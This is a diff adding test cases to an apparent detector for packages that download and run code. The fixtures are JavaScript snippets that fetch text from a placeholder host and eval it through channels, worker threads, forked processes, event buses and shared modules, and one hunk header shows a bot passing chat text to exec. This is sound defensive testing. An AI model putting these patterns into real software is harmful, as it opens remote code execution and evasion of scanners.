@@ -6,6 +6,75 @@ const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node
 examine(runsDownloadedCode, {
   speaks: [
     {
+      when: 'a port brings it from one end to the other',
+      files: {
+        'index.js': `const c = new MessageChannel(); c.port1.onmessage = e => eval(e.data); fetch('https://source.invalid/a').then(r => r.text()).then(t => c.port2.postMessage(t));`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a channel brings it',
+      files: {
+        'index.js': `const a = new BroadcastChannel('x'), b = new BroadcastChannel('x'); b.onmessage = e => eval(e.data); fetch('https://source.invalid/a').then(r => r.text()).then(t => a.postMessage(t));`,
+      },
+    },
+    {
+      when: 'a thread is given it at its start',
+      files: {
+        'index.js': `const { Worker } = require('worker_threads'); fetch('https://source.invalid/a').then(r => r.text()).then(t => new Worker(__dirname + '/w.js', { workerData: t }));`,
+        'w.js': `const { workerData } = require('worker_threads'); eval(workerData);`,
+      },
+    },
+    {
+      when: 'a thread is sent it',
+      files: {
+        'index.js': `const { Worker } = require('worker_threads'); const w = new Worker('./w.js'); fetch('https://source.invalid/a').then(r => r.text()).then(t => w.postMessage({ code: t }));`,
+        'w.js': `const { parentPort } = require('worker_threads'); parentPort.on('message', ({ code }) => eval(code));`,
+      },
+    },
+    {
+      when: 'a thread downloads it and sends it up',
+      files: {
+        'index.js': `const { Worker } = require('worker_threads'); const w = new Worker('./w.js'); w.on('message', m => eval(m));`,
+        'w.js': `const { parentPort } = require('worker_threads'); fetch('https://source.invalid/a').then(r => r.text()).then(t => parentPort.postMessage(t));`,
+      },
+    },
+    {
+      when: 'a worker of a page is sent it',
+      files: {
+        'index.js': `const w = new Worker('w.js'); fetch('https://source.invalid/a').then(r => r.text()).then(t => w.postMessage(t));`,
+        'w.js': `self.onmessage = e => eval(e.data);`,
+      },
+    },
+    {
+      when: 'a process of its own is sent it',
+      files: {
+        'index.js': `const { fork } = require('child_process'); if (process.send) process.on('message', m => eval(m)); else { const c = fork(__filename); fetch('https://source.invalid/a').then(r => r.text()).then(t => c.send(t)); }`,
+      },
+    },
+    {
+      when: 'a bus of another file brings it',
+      files: {
+        'index.js': `const { bus } = require('./bus'); require('./sink'); fetch('https://source.invalid/a').then(r => r.text()).then(t => bus.emit('x', t));`,
+        'bus.js': `const { EventEmitter } = require('events'); exports.bus = new EventEmitter();`,
+        'sink.js': `const { bus } = require('./bus'); bus.on('x', t => eval(t));`,
+      },
+    },
+    {
+      when: 'it is kept in another file',
+      files: {
+        'index.js': `const kept = require('./kept'), run = require('./run'); fetch('https://source.invalid/a').then(r => r.text()).then(t => { kept.code = t; run(); });`,
+        'kept.js': `module.exports = {};`,
+        'run.js': `const kept = require('./kept'); module.exports = () => eval(kept.code);`,
+      },
+    },
+    {
+      when: 'a method of the class above runs it',
+      files: {
+        'index.js': `class A { run(x) { eval(x) } } class B extends A { go(x) { super.run(x) } } fetch('https://source.invalid/a').then(r => r.text()).then(t => new B().go(t));`,
+      },
+    },
+    {
       when: 'the code that does it is a member of a data file',
       files: {
         'index.js': `eval(require('./c.json').steps.first);`,
@@ -256,6 +325,22 @@ const bot = new Telegraf('x'); bot.on('text', context => exec(context.message.te
     },
   ],
   silent: [
+    {
+      when: 'a thread evaluates what another thread is not sent',
+      files: {
+        'index.js': `const { Worker } = require('worker_threads'); const a = new Worker('./a.js'), b = new Worker('./b.js'); a.postMessage('1 + 1'); fetch('https://source.invalid/a').then(r => r.text()).then(t => b.postMessage(t));`,
+        'a.js': `const { parentPort } = require('worker_threads'); parentPort.on('message', code => eval(code));`,
+        'b.js': `const { parentPort } = require('worker_threads'); parentPort.on('message', text => console.log(text));`,
+      },
+    },
+    {
+      when: 'a bus brings it under another name',
+      files: {
+        'index.js': `const bus = require('./bus'); require('./sink'); bus.emit('code', '1 + 1'); fetch('https://source.invalid/a').then(r => r.text()).then(t => bus.emit('text', t));`,
+        'bus.js': `const { EventEmitter } = require('events'); module.exports = new EventEmitter();`,
+        'sink.js': `const bus = require('./bus'); bus.on('code', t => eval(t)); bus.on('text', t => console.log(t));`,
+      },
+    },
     {
       when: 'a data file holds such a text and nobody runs it',
       files: {
